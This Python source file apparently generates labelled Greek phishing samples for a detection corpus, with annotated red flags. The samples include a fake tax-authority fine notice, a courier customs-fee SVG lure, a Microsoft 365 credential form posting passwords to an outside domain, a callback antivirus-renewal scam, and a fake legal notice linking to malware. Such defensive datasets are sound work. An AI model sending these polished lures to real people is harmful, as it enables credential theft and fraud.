"""Greek attack messages (32-36)."""
from common import *  # noqa: F401,F403


def a32():
    link = "https://mydata-aade.gov-gr.info/login?ref=MD-2026-0471182"
    txt = D("""
        Ανεξάρτητη Αρχή Δημοσίων Εσόδων

        Αξιότιμε/η φορολογούμενε,

        Κατά τη διασταύρωση των δεδομένων που έχουν διαβιβαστεί στην ψηφιακή πλατφόρμα myDATA για το γ΄ τρίμηνο 2026 διαπιστώθηκαν αποκλίσεις μεταξύ των εσόδων που διαβιβάσατε και των παραστατικών που διαβίβασαν οι αντισυμβαλλόμενοί σας.

        Επωνυμία: EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Ι.Κ.Ε.
        Α.Φ.Μ.: %s
        Αριθμός ειδοποίησης: MD-2026-0471182

        Σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας, για τη μη διαβίβαση ή την εκπρόθεσμη διαβίβαση παραστατικών προβλέπεται πρόστιμο. Μπορείτε να δείτε το αναλυτικό σημείωμα αποκλίσεων και να υποβάλετε τις διορθώσεις σας εντός πέντε (5) εργάσιμων ημερών, συνδεόμενοι με τους κωδικούς TAXISnet:

        %s

        Μετά την πάροδο της προθεσμίας το πρόστιμο καταλογίζεται αυτόματα.

        Με εκτίμηση,
        Ανεξάρτητη Αρχή Δημοσίων Εσόδων
        Γενική Διεύθυνση Ψηφιακού Μετασχηματισμού
        """) % (VAT["eg_gr"], link)
    h = html_simple(D("""
        <div style="font-family:'Open Sans',Arial,sans-serif;max-width:600px;color:#222222;font-size:14px">
        <div style="background:#003476;color:#ffffff;padding:14px 20px;font-size:18px;font-weight:bold">ΑΑΔΕ <span style="font-weight:normal;font-size:13px">Ανεξάρτητη Αρχή Δημοσίων Εσόδων</span> &middot; myDATA</div>
        <p>Αξιότιμε/η φορολογούμενε,</p>
        <p>Κατά τη διασταύρωση των δεδομένων που έχουν διαβιβαστεί στην ψηφιακή πλατφόρμα <b>myDATA</b> για το γ΄ τρίμηνο 2026 διαπιστώθηκαν αποκλίσεις μεταξύ των εσόδων που διαβιβάσατε και των παραστατικών που διαβίβασαν οι αντισυμβαλλόμενοί σας.</p>
        <table style="background:#eef2f7;padding:10px;font-size:14px"><tr><td>Επωνυμία</td><td>EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Ι.Κ.Ε.</td></tr>
        <tr><td>Α.Φ.Μ.</td><td>%s</td></tr><tr><td>Αριθμός ειδοποίησης</td><td>MD-2026-0471182</td></tr></table>
        <p>Σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας, για τη μη διαβίβαση ή την εκπρόθεσμη διαβίβαση παραστατικών προβλέπεται πρόστιμο. Μπορείτε να δείτε το αναλυτικό σημείωμα αποκλίσεων και να υποβάλετε τις διορθώσεις σας εντός <b>πέντε (5) εργάσιμων ημερών</b>.</p>
        <p><a href="%s" style="background:#003476;color:#ffffff;padding:10px 20px;text-decoration:none">Σύνδεση με κωδικούς TAXISnet</a></p>
        <p>Μετά την πάροδο της προθεσμίας το πρόστιμο καταλογίζεται αυτόματα.</p>
        <p>Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων<br>Γενική Διεύθυνση Ψηφιακού Μετασχηματισμού</p></div>""")
        % (VAT["eg_gr"], link), "utf-8", "ΑΑΔΕ myDATA")
    return Msg("32-el-aade-mydata-prostimo", "attack",
               ("ΑΑΔΕ – myDATA", "noreply@aade-mydata.info"), [S("karalis")],
               "ΑΑΔΕ myDATA: Ασυμφωνία διαβιβασμένων παραστατικών – Ειδοποίηση επιβολής προστίμου",
               ("EET", 2026, 11, 11, 9, 15, 27), ("brevo", dict(sender_domain="aade-mydata.info")),
               alt(text(txt, "utf-8", "quoted-printable"), html(h, "utf-8", "base64")),
               name_cs="utf-8", name_enc="B",
               what="Tax-authority credential phishing: fake AADE myDATA mismatch notice threatening an automatic fine; link asks for TAXISnet credentials.",
               why="Domains aade-mydata.info / gov-gr.info are not aade.gr or gov.gr; bulk-sent via Brevo; five-day deadline and 'automatic fine'; AADE does not e-mail login links for myDATA discrepancies.",
               techniques=["tax-authority / e-invoicing impersonation (AADE myDATA)", "credential phishing (TAXISnet)", "bulk ESP abuse (Brevo)"])


def a33():
    url = "https://acs-telonio-pliromi.com/gr/7401938265"
    svg = D("""
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="560" height="380" viewBox="0 0 560 380">
          <rect width="560" height="380" fill="#ffffff"/>
          <rect width="560" height="64" fill="#e30613"/>
          <text x="24" y="42" font-family="Arial" font-size="28" font-weight="bold" fill="#ffffff">ACS</text>
          <text x="100" y="40" font-family="Arial" font-size="15" fill="#ffffff">Courier · Απόδειξη τελωνειακών τελών</text>
          <text x="24" y="110" font-family="Arial" font-size="15" fill="#222222">Αριθμός αποστολής: 7401938265</text>
          <text x="24" y="136" font-family="Arial" font-size="15" fill="#222222">Αποστολέας: Shenzhen Tonewood Parts Co., Ltd</text>
          <text x="24" y="162" font-family="Arial" font-size="15" fill="#222222">Κατάσταση: Κρατείται στο Τελωνείο Αθηνών</text>
          <text x="24" y="200" font-family="Arial" font-size="17" font-weight="bold" fill="#222222">Ποσό προς εξόφληση: 3,85 €</text>
          <a xlink:href="%s" href="%s" target="_blank">
            <rect x="24" y="226" width="220" height="44" rx="4" fill="#e30613"/>
            <text x="134" y="254" font-family="Arial" font-size="16" font-weight="bold" fill="#ffffff" text-anchor="middle">ΠΛΗΡΩΜΗ ΤΕΛΩΝ</text>
          </a>
          <text x="24" y="320" font-family="Arial" font-size="12" fill="#777777">Αν η πληρωμή δεν ολοκληρωθεί εντός 48 ωρών, η αποστολή επιστρέφεται στον αποστολέα.</text>
        </svg>""") % (url, url)
    body = D("""
        Αγαπητέ πελάτη,

        Η αποστολή σας με αριθμό 7401938265 (αποστολέας: Shenzhen Tonewood Parts Co., Ltd) βρίσκεται στο Τελωνείο Αθηνών και δεν μπορεί να παραδοθεί μέχρι να εξοφληθούν τα τελωνειακά τέλη και ο ΦΠΑ εισαγωγής (συνολικά 3,85 €).

        Στο συνημμένο θα βρείτε την απόδειξη και τον σύνδεσμο πληρωμής. Αν η πληρωμή δεν γίνει εντός 48 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.

        Με εκτίμηση,
        ACS Courier – Εξυπηρέτηση Πελατών
        """)
    return Msg("33-el-acs-telonio-svg", "attack",
               ("ACS Courier", "info@zacharoplasteio-melissa.gr"), [S("papadopoulou")],
               "ACS: Η αποστολή 7401938265 κρατείται στο τελωνείο – απαιτείται εξόφληση τελών",
               ("EET", 2026, 10, 27, 16, 40, 19),
               ("exim", dict(host="cp7.webhost-hellas.gr", ip="185.4.134.77", client_ip="79.110.62.118", mua="roundcube")),
               mixed(text(body, "windows-1253", "quoted-printable"), svg_att(svg, "ACS_Apodeixi_7401938265.svg")),
               name_cs="windows-1253", name_enc="Q",
               what="Courier/customs phishing with an SVG attachment: 'ACS Courier' customs fee receipt whose payment button links to a card-harvesting page.",
               why="Sent from a compromised pastry shop's cPanel mailbox via webmail from a foreign IP; ACS does not send SVG receipts; tiny customs fee with 48-hour deadline; link to acs-telonio-pliromi.com.",
               techniques=["courier/customs impersonation (ACS)", "SVG attachment with embedded link", "compromised small-business mailbox"])


def a34():
    form = html_simple(D("""
        <div style="font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2;padding:40px 0">
        <div style="background:#ffffff;max-width:440px;margin:0 auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,0.2)">
        <div style="font-size:20px;font-weight:600;color:#5e5e5e">Microsoft</div>
        <h2 style="font-weight:600;font-size:24px;color:#1b1b1b">Σύνδεση</h2>
        <p style="font-size:14px">Για να δείτε το έγγραφο <b>Paraggelia_ODEIO_2027.pdf</b> επιβεβαιώστε τον λογαριασμό σας.</p>
        <form method="post" action="https://odeio-docs-view.com/auth/ms365.php">
        <p><input type="email" name="login" value="eleni.papadopoulou@examplegroup.eu" style="width:100%%;border:0;border-bottom:1px solid #666666;padding:6px 0"></p>
        <p><input type="password" name="passwd" placeholder="Κωδικός πρόσβασης" style="width:100%%;border:0;border-bottom:1px solid #666666;padding:6px 0"></p>
        <p style="text-align:right"><button type="submit" style="background:#0067b8;color:#ffffff;border:0;padding:8px 32px">Είσοδος</button></p>
        </form></div></div>"""), "utf-8", "Σύνδεση στον λογαριασμό σας")
    body = D("""
        Καλημέρα σας,

        Ενόψει του εαρινού εξαμήνου θα θέλαμε να ανανεώσουμε μέρος του εξοπλισμού του ωδείου (βιολιά 4/4 και 3/4, κλασικές κιθάρες και δύο ηλεκτρικά πιάνα). Σας επισυνάπτουμε την αναλυτική λίστα της παραγγελίας.

        Για λόγους ασφαλείας το αρχείο ανοίγει μόνο με σύνδεση στον εταιρικό σας λογαριασμό Microsoft 365.

        Θα εκτιμούσαμε την προσφορά σας έως την Παρασκευή 4 Δεκεμβρίου.

        Με εκτίμηση,
        Σοφία Δημητρίου
        Γραμματεία
        Ωδείο Μελωδία Πειραιά
        Ηρώων Πολυτεχνείου 56, Πειραιάς
        """)
    return Msg("34-el-odeio-paraggelia-html", "attack",
               ("Ωδείο Μελωδία Πειραιά", "grammateia@odeiomelodia.gr"), [S("papadopoulou")],
               "Παραγγελία μουσικών οργάνων εαρινού εξαμήνου 2027 - αίτημα προσφοράς",
               ("EET", 2026, 11, 26, 11, 25, 3),
               ("postfix", dict(host="mail.odeiomelodia.gr", ip="194.180.49.212", rdns="vps-194-180-49-212.hostinger-vps.eu",
                                client=("DESKTOP-O3R7VN2", None, "45.155.205.88"), mua="outlook")),
               mixed(text(body, "iso-8859-7", "base64"), html_att(form, "Paraggelia_ODEIO_2027.html")),
               name_cs="iso-8859-7", name_enc="B",
               what="Fake purchase order from a 'Piraeus conservatory' with an HTML attachment that is a Microsoft 365 login form pre-filled with the recipient's address.",
               why="Newly set-up domain on a VPS, an order that 'only opens after signing in to Microsoft 365'; the attachment posts the password to odeio-docs-view.com – credential phishing dressed as a trade order.",
               techniques=["fake purchase order / RFQ", "HTML attachment with credential form", "Microsoft 365 credential phishing"])


def a35():
    t = util.local("EET", 2026, 12, 11, 18, 2, 40)
    body = D("""
        Αγαπητέ πελάτη,

        Σας ευχαριστούμε για την ανανέωση της ετήσιας συνδρομής σας στο Total Security Plus (10 συσκευές). Το ποσό των 389,99 € θα χρεωθεί στον τραπεζικό σας λογαριασμό εντός 24 ωρών.

        Αρ. παραγγελίας: 58217493
        Ημερομηνία: 11/12/2026
        Ποσό: 389,99 €

        Αν δεν πραγματοποιήσατε εσείς αυτή την αγορά ή επιθυμείτε ακύρωση και επιστροφή χρημάτων, καλέστε το τμήμα χρεώσεων στο 211 198 4417 (Δευτέρα – Κυριακή, 24 ώρες).

        Το τιμολόγιο επισυνάπτεται.

        Τμήμα Χρεώσεων
        """)
    inv = D("""
        # ΤΙΜΟΛΟΓΙΟ ΑΝΑΝΕΩΣΗΣ ΣΥΝΔΡΟΜΗΣ
        Αρ. παραγγελίας: 58217493          Ημερομηνία: 11/12/2026

        Προϊόν                                             Ποσότητα       Ποσό
        Total Security Plus - ετήσια συνδρομή (10 συσκευές)     1        389,99 €

        ## Σύνολο χρέωσης: 389,99 €

        Η χρέωση θα πραγματοποιηθεί αυτόματα εντός 24 ωρών.
        Για ακύρωση και επιστροφή χρημάτων καλέστε: 211 198 4417 (24/7)
        """)
    return Msg("35-el-callback-antivirus-ananeosi", "attack",
               ("Τμήμα Χρεώσεων", "billing.renewal.gr24@gmail.com"), [S("karalis")],
               "Επιβεβαίωση ανανέωσης συνδρομής – Αρ. παραγγελίας 58217493",
               ("EET", 2026, 12, 11, 18, 2, 40), ("gmail", {}),
               mixed(alt(text(body, "utf-8", "quoted-printable"), html(html_gmail(body), "utf-8", "quoted-printable")),
                     pdf_att(inv, "Timologio_58217493.pdf", title="Timologio", creator="Microsoft Word", producer="Microsoft: Print To PDF",
                             t=t, zone="EET", font="Arial")),
               name_cs="utf-8", name_enc="B",
               what="Callback phishing (TOAD) in Greek: fake EUR 389.99 antivirus renewal with a PDF 'invoice' and a phone number for cancellation.",
               why="Gmail sender with a generic 'billing department' name, no vendor identity, unsolicited renewal; the only action offered is calling a number, where the victim is talked into remote access or a 'refund' transfer.",
               techniques=["callback phishing (TOAD)", "PDF invoice lure", "freemail sender"])


def a36():
    link = "https://www.ostria-kafeneio.gr/wp-content/uploads/2026/12/exodiko/?doc=EX-2026-3381"
    body = D("""
        Αξιότιμη κυρία Παπαδοπούλου,

        Με εντολή του εντολέα μας, ο οποίος αγόρασε από το κατάστημά σας ψηφιακό πιάνο που παρουσίασε σοβαρά ελαττώματα, σας κοινοποιούμε εξώδικη δήλωση – διαμαρτυρία – πρόσκληση, με την οποία σας καλούμε να καταβάλετε εντός πέντε (5) ημερών το ποσό των 4.870 € ως αποζημίωση, άλλως θα προσφύγουμε στα αρμόδια δικαστήρια χωρίς άλλη ειδοποίηση.

        Το πλήρες κείμενο της εξώδικης δήλωσης, μαζί με τα σχετικά παραστατικά, είναι διαθέσιμο προς λήψη στον παρακάτω σύνδεσμο (αρχείο ZIP, 2,4 MB):
        %s

        Παρακαλούμε να επιβεβαιώσετε την παραλαβή.

        Με τιμή,
        Γεώργιος Παπαναστασίου
        Δικηγόρος Αθηνών
        Δικηγορικό Γραφείο Παπαναστασίου & Συνεργάτες
        """) % link
    return Msg("36-el-exodiko-dikigorou-link", "attack",
               ("Δικηγορικό Γραφείο Παπαναστασίου", "grammateia@papanastasiou-dikigoroi.gr"), [S("papadopoulou")],
               "Κοινοποίηση εξώδικης δήλωσης – διαμαρτυρίας προς EXAMPLE GROUP HELLAS Ι.Κ.Ε.",
               ("EET", 2026, 12, 14, 10, 50, 36),
               ("postfix", dict(host="mail.papanastasiou-dikigoroi.gr", ip="91.92.248.134", rdns="unknown",
                                client=("DESKTOP-5LQ8T0K", None, "196.251.72.14"), mua="outlook")),
               alt(text(body, "windows-1253", "quoted-printable"),
                   html(html_outlook(body, "windows-1253", "EL"), "windows-1253", "quoted-printable")),
               name_cs="windows-1253", name_enc="Q",
               what="Fake lawyer's extrajudicial notice: 'Papanastasiou law office' threatens court action over a defective piano and links to a ZIP 'notice' on a compromised WordPress site.",
               why="Extrajudicial notices in Greece are served by a court bailiff, not as a ZIP download; the link points to a café's hacked WordPress uploads folder; no customer name or invoice given; fear and deadline – malware delivery.",
               techniques=["fake lawyer / legal threat", "malware download link (ZIP on compromised WordPress)"])


def messages():
    return [a32(), a33(), a34(), a35(), a36()]
